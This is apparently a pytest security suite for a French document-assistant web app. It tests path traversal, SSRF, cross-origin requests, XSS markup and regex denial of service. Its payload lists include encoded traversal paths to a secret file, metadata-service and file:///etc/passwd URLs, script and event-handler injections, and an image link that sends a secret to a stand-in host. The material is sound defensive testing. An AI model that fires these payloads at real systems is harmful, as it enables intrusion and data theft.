"""Attacks on the served pages: files read through a path, forged requests, markup, patterns that never end, what the API is sent."""

import ast
import importlib
import json
import pkgutil
import re
import signal
import socket
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

import httpx
import pytest
from test_web import AGENDA, HOSTILE, StandIn, ask, browser, count, free_port, served

import amp_assistant
from amp_assistant.assistant import Assistant
from amp_assistant.settings import Settings

__all__ = ["browser"]  # a fixture
pytestmark = pytest.mark.filterwarnings("ignore:.*no_silent_downcasting")

ROOT = Path(__file__).resolve().parents[1]
SECRET = "le secret du serveur"


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder of the server with a file that nobody may read."""
    made = tmp_path_factory.mktemp("attacked")
    (made / "secret.txt").write_text(SECRET, encoding="utf-8")
    return made


@pytest.fixture(scope="module")
def settings_of_page(folder: Path) -> Settings:
    return Settings(port=free_port(), feedback=folder / "feedback.sqlite3", requests_per_minute=100_000)


@pytest.fixture(scope="module")
def address(settings_of_page: Settings) -> str:
    return served(StandIn(), settings_of_page)


# Files


def routes(application: Any) -> Iterator[str]:
    """The paths of an application and of what is mounted in it."""
    for route in application.routes:
        if getattr(route, "path", None):
            yield route.path
        if getattr(getattr(route, "app", None), "routes", None):
            yield from routes(route.app)
        included = getattr(route, "original_router", None) or getattr(route, "router", None)
        if included is not None and getattr(included, "routes", None):
            yield from (f"{getattr(route, 'prefix', '')}{path}" for path in routes(included))


def traversals(target: Path) -> list[str]:
    """Ways to write the path of a file outside of what a route may give."""
    plain = str(target)
    up = "../" * 12 + plain.lstrip("/")
    encoded = [up.replace("../", written) for written in ("..%2f", "%2e%2e/", "....//")]
    return [plain, up, *encoded, "%00" + plain, "file://" + plain]


def test_no_route_gives_a_file_by_its_path(address: str, folder: Path, settings_of_page: Settings) -> None:
    from amp_assistant.web.server import build_application

    paths = set(routes(build_application(StandIn(), settings_of_page)))  # type: ignore[arg-type]
    with_parameter = {path for path in paths if "{" in path}
    assert len(with_parameter) >= 10, "Gradio's routes of files are among them"
    for path in sorted(with_parameter):
        for written in traversals(folder / "secret.txt"):
            told = raw_get(address, re.sub(r"\{[^}]*\}", written, path, count=1).replace("{", "").replace("}", ""))
            assert SECRET.encode() not in told, path
    for route in ("/gradio_api/file=", "/gradio_api/file/", "/file=", "/static/", "/assets/", "/svelte/", "/gradio_api/proxy="):
        for written in traversals(folder / "secret.txt"):
            told = raw_get(address, route + written)
            assert SECRET.encode() not in told, route


def raw_get(address: str, target: str) -> bytes:
    """The response to a path as it is written: clients tidy it before they send it."""
    host, port = address.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=20) as connection:
        connection.sendall(f"GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        received = b""
        while piece := connection.recv(65_536):
            received += piece
            if b"text/event-stream" in received:
                break
    return received


@pytest.mark.parametrize(
    "path", ["/gradio_api/upload", "/gradio_api/process_recording", "/gradio_api/vibe-edit", "/gradio_api/component_server", "/login"]
)
def test_nothing_is_taken_in_that_the_pages_do_not_need(address: str, path: str) -> None:
    assert httpx.post(f"{address}{path}", files={"files": ("x.svg", b"<svg onload=alert(1)>")}).status_code == 403


@pytest.mark.parametrize("url", ["http://127.0.0.1:9/", "http://169.254.169.254/latest/meta-data", "file:///etc/passwd", "gopher://x"])
def test_the_server_fetches_nothing_on_a_visitors_word(address: str, url: str) -> None:
    for path in (f"/gradio_api/file={url}", f"/gradio_api/proxy={url}", f"/proxy={url}"):
        assert httpx.get(address + path).status_code in {400, 403, 404}
    body = json.dumps({"data": [{"path": url, "url": url, "meta": {"_type": "gradio.FileData"}}, []]})
    for written in (body, body.replace("gradio.File", "gradio\\u002eF\\u0069le"), body.replace("FileData", "\\u0046ileData")):
        event = httpx.post(f"{address}/gradio_api/call/ask", content=written, headers={"Content-Type": "application/json"})
        assert event.status_code == 403


def test_the_code_calls_out_only_to_a_model_and_to_what_a_person_configured() -> None:
    """No module imports a client of the network but the doctor, which asks the model's own server, and the store, Chroma's."""
    clients = {"httpx", "requests", "urllib.request", "aiohttp", "http.client", "ftplib", "smtplib"}
    found = set()
    for path in (ROOT / "src").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            names = [one.name for one in node.names] if isinstance(node, ast.Import) else []
            names += [node.module or ""] if isinstance(node, ast.ImportFrom) else []
            found |= {(path.stem, name) for name in names if name in clients}
    assert {module for module, _ in found} <= {"doctor", "store"}


# Other sites


def test_another_site_can_neither_frame_a_page_nor_read_an_answer_nor_have_a_browser_post(address: str) -> None:
    evil = {"Origin": "https://evil.example"}
    headers = httpx.get(address, headers=evil).headers
    assert headers["x-frame-options"] == "DENY" and "frame-ancestors 'none'" in headers["content-security-policy"]
    assert headers.get("access-control-allow-origin") in (None, "")
    preflight = httpx.options(f"{address}/opinions", headers={**evil, "Access-Control-Request-Method": "POST"})
    assert "access-control-allow-origin" not in preflight.headers
    for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"):  # what a form can send
        turn = {"question": "?", "history": [], "text": "", "citations": [], "notices": []}
        body = json.dumps({"turn": turn, "verdict": "utile"})
        sent = httpx.post(f"{address}/opinions", content=body, headers={**evil, "Content-Type": kind})
        assert sent.status_code in {403, 415, 422}


def test_no_cookie_is_set(address: str) -> None:
    assert "set-cookie" not in httpx.get(address).headers


# Markup


@pytest.mark.browser
@pytest.mark.parametrize(
    "markup",
    [
        "<script>document.title='ran'</script>",
        "<img src=x onerror=\"document.title='ran'\">",
        "<svg/onload=\"document.title='ran'\">",
        "[x](javascript:document.title='ran')",
        "<iframe srcdoc=\"<script>parent.document.title='ran'</script>\"></iframe>",
        "![x](https://evil.example/?q=secret)",
        "<style>body{display:none}</style>",
        "$\\href{javascript:document.title='ran'}{x}$",
    ],
)
def test_markup_of_questions_documents_and_models_does_nothing(browser: Any, tmp_path: Path, markup: str) -> None:
    over = Marked(markup)
    address = served(over, Settings(port=free_port(), feedback=tmp_path / "feedback.sqlite3"))
    context = browser.new_context()
    page = context.new_page()
    reached: list[str] = []
    page.on("request", lambda request: None if request.url.startswith((address, "data:", "blob:")) else reached.append(request.url))
    page.on("dialog", lambda dialog: reached.append(dialog.message))
    page.goto(address)
    page.wait_for_selector(".begun", state="attached")
    ask(page, f"hostile {markup}")
    count(page, "article.answered", 1)
    page.locator("article summary").first.click()
    page.wait_for_timeout(300)
    assert "ran" not in page.title()
    assert reached == []
    assert page.locator("article script, article iframe, article style, article [onerror], article [onload], article img").count() == 0
    assert page.locator('a[href^="javascript"]').count() == 0
    assert page.locator("#question textarea").is_visible()
    context.close()


class Marked(StandIn):
    """Documents whose title, file name, headings and words are all markup, as are the statements of the model."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.markup = markup
        self.index.documents["agenda"] = replace(AGENDA, title=markup, short_title=markup, description=markup, path=f"{markup}.md")

    def passage(self, identifier: str) -> Any:
        return replace(HOSTILE, text=f"Avant {self.markup} après.", heading_path=(self.markup,))

    def _answer(self, question: str) -> Any:
        from amp_assistant.citations import Quotation, Statement, number_statements

        passage = self.passage("")
        statement = Statement(f"- {self.markup} « {passage.text} »", (Quotation(passage, 0, len(passage.text)),))
        text, citations = number_statements([statement], self.index.documents)
        return replace(super()._answer("Combien ?"), text=text, citations=citations, notices=(self.markup,))


# Patterns

LENGTH = 2_000
"""Characters of a hostile string: the longest question. Documents, which may be longer, are read in a process that is timed."""
LONGEST = 1.0
"""Seconds of work that one pattern may take over one such string: what grows with the square takes some 0.02 s."""
UNITS = (
    " ", "\n", "\t", "a", "A", "1", "é", ".", ",", "-", "«", "»", "(", "[", "*", "#", "|", "_", "<", "&", "/", "'", "\u00a0",
    "\ue0f2", "€", "%", "a ", " a", "1 ", "1.", "1,", "a.", "a-", "a\n", "\n ", "- ", "* ", "| ", "<a", "a@", "a.a", "0 ", "12 ",
    "FR76", "+33 ", "et ", "de la ", "à 1 ", "1 à ", "le 1er ", "« a ", "[1]", "**a", "](", "<!--", "<think>", "&amp", "1 000 ",
    "20 % ", "M€ ", "12/", "de 1 à ", "ACTION 1 ",
)  # fmt: skip


def patterns() -> dict[str, re.Pattern[str]]:
    """Every compiled pattern of the package: those of its modules, and those in their containers."""
    found: dict[str, re.Pattern[str]] = {}

    def collect(value: Any, depth: int = 0) -> None:
        if isinstance(value, re.Pattern) and isinstance(value.pattern, str):
            found[value.pattern] = value
        elif depth < 4 and isinstance(value, dict):
            for one in (*value, *value.values()):
                collect(one, depth + 1)
        elif depth < 4 and isinstance(value, (list, tuple, set, frozenset)):
            for one in value:
                collect(one, depth + 1)

    for module in pkgutil.walk_packages(amp_assistant.__path__, "amp_assistant."):
        if module.name.endswith("__main__"):
            continue
        for value in vars(importlib.import_module(module.name)).values():
            collect(value)
            if isinstance(value, type) and value.__module__.startswith("amp_assistant"):
                for one in vars(value).values():
                    collect(one)
    return found


def test_every_pattern_ends_soon_whatever_it_reads() -> None:
    every = patterns()
    assert len(every) > 60
    slow = {}
    for pattern in every.values():
        for text in ((unit * LENGTH)[:LENGTH] + end for unit in UNITS for end in ("", "!")):
            try:
                with alarm(LONGEST):
                    pattern.sub("", text)
                    pattern.match(text)
            except TimeoutError:
                slow[pattern.pattern] = text[:6]
                break
    assert slow == {}


@contextmanager
def alarm(seconds: float) -> Iterator[None]:
    """:raises TimeoutError: what is done inside takes longer; the engine of patterns looks for signals while it works."""

    def ring(*_: object) -> None:
        raise TimeoutError

    before = signal.signal(signal.SIGVTALRM, ring)
    signal.setitimer(signal.ITIMER_VIRTUAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_VIRTUAL, 0)
        signal.signal(signal.SIGVTALRM, before)


# What tools find


def test_bandit_finds_nothing_that_is_not_explained() -> None:
    command = [sys.executable, "-m", "bandit", "-q", "-r", "src", "-c", "pyproject.toml", "-f", "json"]
    done = subprocess.run(command, capture_output=True, text=True, cwd=ROOT)
    found = [f"{one['filename']}:{one['line_number']} {one['test_id']} {one['issue_text']}" for one in json.loads(done.stdout)["results"]]
    assert found == []


def test_the_interface_for_programs_stands_what_its_description_allows_and_what_it_does_not(assistant: Assistant, tmp_path: Path) -> None:
    address = served(assistant, Settings(port=free_port(), feedback=tmp_path / "feedback.sqlite3", requests_per_minute=100_000))
    command = [sys.executable, "-m", "schemathesis.cli", "run", f"{address}/api/openapi.json", "--checks", "not_a_server_error"]
    options = ["--max-examples", "20", "--phases", "examples,fuzzing", "--generation-deterministic"]
    done = subprocess.run([*command, *options], capture_output=True, text=True, timeout=300, cwd=tmp_path)
    assert done.returncode == 0, done.stdout[-3000:]
